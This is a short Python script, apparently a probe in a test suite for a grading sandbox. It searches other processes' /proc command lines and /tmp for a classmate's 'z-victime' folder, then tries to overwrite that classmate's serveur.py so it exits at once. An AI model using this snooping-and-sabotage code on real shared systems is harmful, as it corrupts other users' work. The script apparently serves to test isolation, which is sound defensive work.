# No path given: look for the class folder in the command lines under /proc and by walking /tmp
# (where a teacher often unpacks a class), then damage a classmate.
import os
from common import other_pids, try_write

found = set()
for pid in other_pids():
    try:
        args = open("/proc/%d/cmdline" % pid, "rb").read().split(b"\0")
    except OSError:
        continue
    for a in args:
        a = a.decode("utf-8", "replace")
        if os.path.isdir(os.path.join(a, "z-victime")):
            found.add(a)
for root, dirs, files in os.walk("/tmp"):
    if root.count(os.sep) > 4:
        dirs[:] = []
    if "z-victime" in dirs:
        found.add(root)
done = [try_write(os.path.join(c, "z-victime", "1-meme-machine", "serveur.py"), "\nraise SystemExit(3)\n") for c in found]
raise RuntimeError("search: found %s %s" % (sorted(found), done))
